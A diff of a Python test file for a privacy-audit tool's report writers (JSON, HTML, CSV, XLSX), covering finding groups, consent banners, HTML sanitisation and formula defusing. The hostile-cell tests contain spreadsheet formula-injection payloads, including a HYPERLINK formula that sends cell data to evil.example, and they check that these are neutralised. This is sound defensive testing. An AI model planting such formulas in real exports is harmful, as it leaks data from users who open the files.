@@ -22,8 +22,8 @@ from piaudit.policies.session import Session
 from piaudit.scripts.cli import main
 from piaudit.scripts.reports import write_report
 from piaudit.scripts.reports.har import stream_har
-from piaudit.scripts.reports.html import MAX_FINDINGS
-from piaudit.scripts.reports.tabular import COLUMNS, defuse
+from piaudit.scripts.reports.render import MAX_GROUPS
+from piaudit.scripts.reports.tabular import columns, defuse
 from tests.support.bench import bench_module
 from tests.support.sessions import ANDROID_ID, IMEI, LOCATION, OAID, PAYLOADS, T0, build_session
 
@@ -52,7 +52,9 @@ class TestJson:
         assert len(doc["findings"]) == len(built.findings)  # the stale run-1 finding is not reported
         assert all(f.keys() >= CONTRACT for f in doc["findings"])
         assert {f["rule"] for f in doc["findings"]} == {f.rule for f in built.findings}
-        assert [Finding.model_validate(f) for f in doc["findings"]]  # dumps of the model, round-trip
+        # dumps of the model plus the report's group id, round-trip
+        assert [Finding.model_validate({k: v for k, v in f.items() if k != "group"}) for f in doc["findings"]]
+        assert {f["group"] for f in doc["findings"]} == {g["id"] for g in doc["groups"]}
         assert doc["session"]["app"] == "com.example.shop" and doc["session"]["policy_sha256"]
 
     def test_consent_and_coverage(self, built, capsys) -> None:
@@ -63,12 +65,12 @@ class TestJson:
         assert [(x["kind"], x["port"]) for x in cov["non_http"]] == [("tcp", 5224)]
         assert [x["api"] for x in cov["hooks_failed"]] == ["com.bun.miitmdid.core.MdidSdkHelper.InitSdk"]
         assert cov["errors_total"] == 1 and cov["hooks_installed"] == 1
-        assert set(doc["chains"].values()) == {None}
+        assert set(doc["chains"].values()) == {"intact"}  # the real status, not null
 
     def test_no_consent_event_is_said(self, tmp_path: Path, capsys) -> None:
         session = build_session(tmp_path / "nc", consent=False)
         assert _json(capsys, str(session.dir))["consent"]["note"] == NO_CONSENT_NOTE
-        html = write_report(session.dir, "html", None).read_text()
+        html = write_report(session.dir, "html", None, lang="en").read_text()
         assert f'<div class="banner alert">{NO_CONSENT_NOTE}</div>' in html
 
     def test_consent_signals_come_from_the_stored_judgement_not_the_policy_file(self, tmp_path: Path, capsys) -> None:
@@ -100,9 +102,9 @@ class _Tags(HTMLParser):
 
 class TestHtml:
     def test_default_output_and_sections(self, built) -> None:
-        assert main(["report", str(built.dir), "--format", "html"]) == 0
+        assert main(["report", str(built.dir), "--format", "html", "--lang", "en"]) == 0
         page = (built.dir / "report.html").read_text()
-        for anchor in ("summary", "timeline", "consent", "findings", "coverage", "provenance"):
+        for anchor in ("summary", "sdks", "timeline", "consent", "findings", "screens", "checklist", "coverage", "provenance"):
             assert f'id="{anchor}"' in page
         assert '<svg class="timeline"' in page and "consent granted" in page
         assert f"<mark>{IMEI}</mark>" in page  # the excerpt's [[...]] highlight
@@ -116,6 +118,8 @@ class TestHtml:
         parser.feed(page)
         allowed = {
             "html",
+            "colgroup",  # the consent table's column widths
+            "col",
             "head",
             "meta",
             "title",
@@ -155,29 +159,43 @@ class TestHtml:
             "line",
             "text",
             "footer",
+            "br",
+            "img",
         }
-        assert {tag for tag, _ in parser.tags} <= allowed  # no script, img, iframe, object, link...
+        assert {tag for tag, _ in parser.tags} <= allowed  # no script, iframe, object, link...
         for tag, attrs in parser.tags:
             for name, value in attrs:
-                assert not name.startswith("on") and name not in ("src", "srcset", "action", "formaction"), (tag, name)
+                assert not name.startswith("on") and name not in ("srcset", "action", "formaction"), (tag, name)
+                if name == "src":  # only the screens' own PNGs, inline
+                    assert tag == "img" and value and value.startswith("data:image/png;base64,"), (tag, value)
                 if name == "href":
                     assert value and value.startswith("#"), value
         assert page.count("<style>") == 1 and "default-src 'none'" in page
         for payload in PAYLOADS:
             assert payload not in page  # only ever present escaped
 
-    def test_large_sessions_are_capped(self, tmp_path: Path) -> None:
+    def test_repeated_findings_are_one_group(self, tmp_path: Path) -> None:
         session = build_session(tmp_path / "big")
         store = Session.open(session.dir).store
+        many = [Finding(rule="OVER_FREQUENCY", data_type="imei", time=T0 + i / 100, before_consent=True) for i in range(1000)]
+        store.insert_many("findings", [rows.finding_row(3, f) for f in many])
+        store.close()
+        page = write_report(session.dir, "html", None, lang="en").read_text()
+        assert "1000 findings in 1 groups" in page and page.count('<section class="finding') == 1
+        assert "1000 times, first " in page and "×1000" in page
+
+    def test_many_groups_are_capped(self, tmp_path: Path) -> None:
+        session = build_session(tmp_path / "wide")
+        store = Session.open(session.dir).store
         many = [
-            Finding(rule="OVER_FREQUENCY", data_type="imei", time=T0 + i / 100, before_consent=True)
-            for i in range(MAX_FINDINGS + 25)
+            Finding(rule="UNDECLARED_THIRD_PARTY", data_type="imei", host=f"h{i}.example", time=T0 + i / 100, before_consent=True)
+            for i in range(MAX_GROUPS + 25)
         ]
         store.insert_many("findings", [rows.finding_row(3, f) for f in many])
         store.close()
-        page = write_report(session.dir, "html", None).read_text()
-        assert f"showing the first {MAX_FINDINGS} of {MAX_FINDINGS + 25} findings" in page
-        assert page.count('<section class="finding') == MAX_FINDINGS
+        page = write_report(session.dir, "html", None, lang="en").read_text()
+        assert f"showing the first {MAX_GROUPS} of {MAX_GROUPS + 25} groups" in page
+        assert page.count('<section class="finding') == MAX_GROUPS
 
 
 class TestTabular:
@@ -186,13 +204,14 @@ class TestTabular:
         raw = out.read_bytes()
         assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
         table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
-        assert table[0] == [name for name, _ in COLUMNS] and len(table) == len(built.findings) + 1
+        head = table[0]
+        assert head[:4] == ["no.", "group", "rule", "severity"] and len(table) == len(built.findings) + 1
         assert [r[0] for r in table[1:]] == [str(n) for n in range(1, len(built.findings) + 1)]
-        col = {name: i for i, (name, _) in enumerate(COLUMNS)}
-        assert any("精确位置" in r[col["message"]] for r in table[1:])
-        assert all(r[col["reviewer verdict"]] == "" and r[col["notes"]] == "" for r in table[1:])  # left to the reviewer
-        assert all(r[col["sent by"]] == "" for r in table[1:])  # no http:request events in this session
-        assert table[1][3].endswith("Z") and table[1][4] in ("yes", "no")
+        assert any("精确位置" in r[head.index("message")] for r in table[1:])
+        assert all(r[head.index("reviewer verdict")] == "" and r[head.index("notes")] == "" for r in table[1:])
+        assert table[1][head.index("time (UTC, ISO 8601)")].endswith("Z") and table[1][head.index("before consent")] in ("yes", "no")
+        assert all(r[1].startswith("g-") for r in table[1:])
+        assert all(r[head.index("sent by")] == "" for r in table[1:])  # no http:request events in this session
 
     @pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x"])
     def test_formula_cells_are_defused(self, cell: str) -> None:
@@ -200,19 +219,20 @@ class TestTabular:
 
     def test_hostile_cells(self, hostile) -> None:
         table = list(csv.reader(io.StringIO(write_report(hostile.dir, "csv", None).read_text("utf-8-sig"))))
-        row = next(r for r in table if r[1] == "UNDECLARED_DATA_TYPE")
-        col = {name: i for i, (name, _) in enumerate(COLUMNS)}
-        assert row[col["evidence excerpt"]].startswith("'=HYPERLINK") and row[col["message"]] == "'+SUM(1,2)"
-        assert row[col["party"]] == "'@evil" and row[col["host"]] == "'-2+3.example"
+        head = table[0]
+        row = next(r for r in table if r[2] == "UNDECLARED_DATA_TYPE")
+        cell = {name: row[head.index(name)] for name in ("evidence excerpt", "message", "party", "host")}
+        assert cell["evidence excerpt"].startswith("'=HYPERLINK") and cell["message"] == "'+SUM(1,2)"
+        assert cell["party"] == "'@evil" and cell["host"] == "'-2+3.example"
         sheet = load_workbook(write_report(hostile.dir, "xlsx", None))["findings"]
         cells = [c for r in sheet.iter_rows(min_row=2) for c in r if c.value is not None]
         assert all(c.data_type != "f" for c in cells)
         assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [c.value for c in cells]
 
     def test_xlsx_worksheet(self, built) -> None:
-        book = load_workbook(write_report(built.dir, "xlsx", None))
+        book = load_workbook(write_report(built.dir, "xlsx", None, lang="en"))
         sheet = book["findings"]
-        assert [c.value for c in sheet[1]] == [name for name, _ in COLUMNS]
+        assert len([c.value for c in sheet[1]]) == len(columns()) and sheet[1][0].value == "no."
         assert sheet.max_row == len(built.findings) + 1 and sheet.freeze_panes == "B2"
         assert sheet.data_validations.dataValidation  # the verdict drop-down
         assert "com.example.shop" in [c.value for c in book["session"]["B"]]
